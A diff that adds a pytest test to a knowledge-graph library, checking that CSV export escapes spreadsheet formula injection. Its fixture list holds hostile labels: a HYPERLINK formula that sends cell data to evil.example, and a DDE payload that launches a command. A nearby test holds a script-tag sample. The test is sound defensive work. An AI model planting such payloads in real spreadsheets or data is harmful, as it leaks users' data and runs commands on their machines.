@@ -89,6 +89,24 @@ def test_to_csv_writes_what_the_command_writes(kg: KnowledgeGraph, tmp_path: Pat
     assert len(rows) == 15 and {r["value"] for r in rows} >= {"5739"}
 
 
+@pytest.mark.parametrize("form", ["select", "construct"])
+def test_to_csv_keeps_formulas_out_of_spreadsheets(kg: KnowledgeGraph, tmp_path: Path, form: str) -> None:
+    # Labels as a hostile table could bring in; a spreadsheet would run each one as a formula.
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+    store = ox.Store()
+    graph = ox.NamedNode("urn:g")
+    for i, label in enumerate([*hostile, "Haier Group"]):
+        store.add(ox.Quad(ox.NamedNode(f"urn:x{i}"), ox.NamedNode("urn:label"), ox.Literal(label), graph))
+    store.add(ox.Quad(ox.NamedNode("urn:n"), ox.NamedNode("urn:label"), ox.Literal("-3.5", datatype=ox.NamedNode("http://www.w3.org/2001/XMLSchema#decimal")), graph))
+    text = "SELECT ?s ?o WHERE { ?s <urn:label> ?o }" if form == "select" else "CONSTRUCT WHERE { ?s <urn:label> ?o }"
+    path = KnowledgeGraph(store, kg.project).query(text).to_csv(tmp_path / "labels.csv")
+    cells = {row[0]: row[-1] for row in list(csv.reader(path.open(encoding="utf-8", newline="")))[1:]}
+    assert {cells[f"urn:x{i}"] for i in range(len(hostile))} == {"'" + label for label in hostile}
+    assert cells["urn:x4"] == "Haier Group"  # ordinary text as it is
+    assert cells["urn:n"] == "-3.5"  # a negative number stays a number
+    assert not [c for c in cells.values() if c.startswith(("=", "+", "@")) or (c.startswith("-") and c != "-3.5")]
+
+
 def test_a_result_shows_as_an_escaped_table_in_notebooks(kg: KnowledgeGraph) -> None:
     store = ox.Store()
     label = '<script>alert("x")</script>'
